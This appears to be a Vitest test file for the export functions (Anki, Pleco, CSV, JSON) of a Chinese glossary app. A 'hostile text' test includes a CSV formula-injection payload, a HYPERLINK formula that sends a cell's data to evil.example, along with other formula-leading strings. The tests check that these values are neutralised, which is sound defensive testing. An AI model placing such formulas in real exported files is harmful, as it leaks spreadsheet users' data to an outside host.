import { describe, expect, it } from 'vitest';
import { termGuid } from '../anki/guid.ts';
import { ankiTags, noteFields } from '../anki/note-type.ts';
import { exportAnki } from './export-anki.ts';
import { readCsv } from './csv.ts';
import { exportCsv } from './export-csv.ts';
import { exportJson } from './export-json.ts';
import { exportPleco } from './export-pleco.ts';
import { GLOSSARY_VERSION } from './term.ts';
import { ALL_TERMS, CHANGZHI, HOSTILE_TERMS, T0, ZHANGDA } from './test-fixtures.ts';

/**
 * Anki's reading of a text file (rslib import_export/text/csv): `#` lines before the body are the header; the body is
 * CSV with the header's separator, `"` quotes (doubled inside), and `#` starting a comment line.
 */
function readAsAnki(text: string): { header: Map<string, string>; rows: string[][] } {
  const lines = text.split('\n');
  const header = new Map<string, string>();
  let at = 0;
  for (const line of lines) {
    if (!line.startsWith('#')) break;
    const [key = '', ...value] = line.slice(1).split(':');
    header.set(key.trim().toLowerCase(), value.join(':'));
    at += line.length + 1;
  }
  const rows: string[][] = [];
  let fields: string[] = [];
  let value = '';
  let quoted = false;
  let fieldStart = true;
  let recordStart = true;
  const body = text.slice(at);
  for (let i = 0; i < body.length; i++) {
    const char = body[i];
    if (recordStart && char === '#') {
      i = body.indexOf('\n', i);
      if (i < 0) break;
      continue;
    }
    recordStart = false;
    if (quoted) {
      if (char === '"' && body[i + 1] === '"') {
        value += '"';
        i++;
      } else if (char === '"') quoted = false;
      else value += char;
    } else if (char === '"' && fieldStart) {
      quoted = true;
      fieldStart = false;
    } else if (char === '\t') {
      fields.push(value);
      value = '';
      fieldStart = true;
    } else if (char === '\n') {
      rows.push([...fields, value]);
      fields = [];
      value = '';
      fieldStart = true;
      recordStart = true;
    } else {
      value += char;
      fieldStart = false;
    }
  }
  return { header, rows };
}

describe('exportAnki', () => {
  it('names the Duizhao note type, the deck, the columns, the tags and GUID columns, with plain text fields', () => {
    const text = exportAnki([ZHANGDA], { deck: 'Chinese::News', recall: false });
    expect(text).toBe(
      [
        '#separator:tab',
        '#html:false',
        '#notetype:Duizhao',
        '#deck:Chinese::News',
        '#columns:Simplified\tTraditional\tPinyin\tMeaning\tSentence\tSentence (English)\tSource\tNote\tRecall\tTags\tGUID',
        '#tags column:10',
        '#guid column:11',
        `长大\t長大\tzhǎngdà\tto grow up\t\t\t\t\t\t\t${termGuid(ZHANGDA.id)}`,
        '',
      ].join('\n'),
    );
  });

  it('reads back, as Anki reads it, to the same fields for every hostile term: no row breaks or hides another', () => {
    const terms = [...ALL_TERMS, ...HOSTILE_TERMS];
    const { header, rows } = readAsAnki(exportAnki(terms, { deck: 'Duizhao', recall: true }));
    expect(header.get('notetype')).toBe('Duizhao');
    expect(rows).toEqual(terms.map((term) => [...noteFields(term, { recall: true }), ankiTags(term).join(' '), termGuid(term.id)]));
    expect(rows.map((row) => row[0])).toContain('#话题');
    expect(rows.filter((row) => row[0] === '台湾').map((row) => [row[1], row.at(-1)])).toEqual([
      ['臺灣', termGuid('台湾|臺灣')],
      ['台灣', termGuid('台湾|台灣')],
    ]);
  });

  it('quotes a field with a tab, a line break, a quote, or a leading #', () => {
    const term = { ...ZHANGDA, note: 'a\tb', tags: ['"open'] };
    const row = exportAnki([term]).split('\n').slice(7).join('\n');
    expect(row).toContain('\t"a\tb"\t');
    expect(row).toContain('\t"""open"\t');
  });

  it('gives the two traditional forms of 台湾 two GUIDs, the same in every export', () => {
    const [a, b] = HOSTILE_TERMS;
    expect(termGuid(a?.id ?? '')).not.toBe(termGuid(b?.id ?? ''));
    expect(termGuid('台湾|臺灣')).toBe(termGuid('台湾|臺灣'));
    expect(termGuid('台湾|臺灣')).toMatch(/^[a-zA-Z0-9!#$%&()*+,\-./:;<=>?@[\]^_`{|}~]{1,10}$/);
  });

  it('joins words of a tag, as Anki separates tags by spaces', () => {
    expect(exportAnki([{ ...CHANGZHI, tags: ['news of the day'] }]).trimEnd().split('\t').at(-2)).toBe('news_of_the_day');
  });
});

describe('exportPleco', () => {
  it('writes headword[traditional], numbered pinyin and senses, under a category per first tag', () => {
    expect(exportPleco(ALL_TERMS)).toBe(
      [
        '//Duizhao',
        '长大[長大]\tzhang3da4\tto grow up',
        '//Duizhao/environment',
        '绿色[綠色]\tlü4se4\tgreen; environment-friendly',
        '//Duizhao/politics',
        '长治久安[長治久安]\tchang2zhi4jiu3an1\tlong-term stability; lasting peace and order',
        '',
      ].join('\n'),
    );
  });

  it('writes a word once when both scripts agree, and the note when there are no senses', () => {
    const term = { ...CHANGZHI, traditional: CHANGZHI.simplified, senses: [], note: 'my\ngloss', tags: ['a/b'] };
    expect(exportPleco([term])).toBe('//Duizhao/a-b\n长治久安\tchang2zhi4jiu3an1\tmy gloss\n');
  });
});

describe('exportCsv', () => {
  it('writes a BOM, the header and one record per context', () => {
    expect(exportCsv(ALL_TERMS)).toBe(
      '\uFEFF' +
        [
          'simplified,traditional,pinyin,senses,note,tags,sentence,aligned_english,url,title,page_date,saved_at,created_at,updated_at',
          '长治久安,長治久安,chang2 zhi4 jiu3 an1,"long-term stability\nlasting peace and order",Set phrase in policy speeches.,"politics\nchengyu",维护新疆社会稳定和长治久安。,Maintain social stability and lasting peace in Xinjiang.,https://news.example.cn/2026/11/01/a.html,"新华社 ""要闻""",2026-11-01,2026-11-01T08:00:00.000Z,2026-11-01T08:00:00.000Z,2026-11-01T08:00:00.000Z',
          '长大,長大,zhang3 da4,to grow up,,,,,,,,,2026-11-01T09:00:00.000Z,2026-11-01T09:00:00.000Z',
          '绿色,綠色,lv4 se4,"green\nenvironment-friendly","Line one\nline two, ""quoted""",environment,推动绿色发展，促进人与自然和谐共生。,,https://example.com/green?a=1&b=2,Green <growth>,,2026-11-01T10:00:00.000Z,2026-11-01T10:00:00.000Z,2026-11-01T12:00:00.000Z',
          '绿色,綠色,lv4 se4,"green\nenvironment-friendly","Line one\nline two, ""quoted""",environment,绿色低碳。,,,,,2026-11-01T11:00:00.000Z,2026-11-01T10:00:00.000Z,2026-11-01T12:00:00.000Z',
          '',
        ].join('\r\n'),
    );
  });
});

describe('hostile text in CSV and Pleco', () => {
  it('CSV: a cell that a spreadsheet would run as a formula starts with a quote', () => {
    const cells = readCsv(exportCsv(HOSTILE_TERMS).slice(1)).records.flatMap((record) => record.fields);
    expect(cells).toContain(`'=HYPERLINK("https://evil.example/steal?d="&A2,"Open source")`);
    expect(cells).toContain(`'-He has been to Taiwan & back`);
    expect(cells).toContain(`Taiwan\n=1+1\n@SUM(A1)`);
    expect(cells).toContain(`'+plus\n'quote`);
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
  });

  it('Pleco: one card a line with ü as Pleco writes it, a term without pinyin or sense still a card', () => {
    expect(exportPleco(HOSTILE_TERMS)).toBe(
      [
        '//Duizhao',
        '台湾[台灣]\ttai2wan1\tTaiwan (台 form)',
        '女儿[女兒]\tnü3er2\tdaughter 👧',
        '//Duizhao/"quoted',
        '台湾[臺灣]\ttai2wan1\tTaiwan; =1+1; @SUM(A1)',
        '//Duizhao/+plus',
        '#话题[#話題]\t\t',
        '',
      ].join('\n'),
    );
  });
});

describe('exportJson', () => {
  it('writes the whole glossary with its schema version', () => {
    const text = exportJson({ version: GLOSSARY_VERSION, terms: [CHANGZHI] }, T0);
    expect(text).toBe(`${JSON.stringify({ format: 'duizhao-glossary', version: 1, exportedAt: '2026-11-01T08:00:00.000Z', terms: [CHANGZHI] }, null, 2)}\n`);
    expect(text.split('\n').slice(0, 5)).toEqual(['{', '  "format": "duizhao-glossary",', '  "version": 1,', '  "exportedAt": "2026-11-01T08:00:00.000Z",', '  "terms": [']);
  });
});
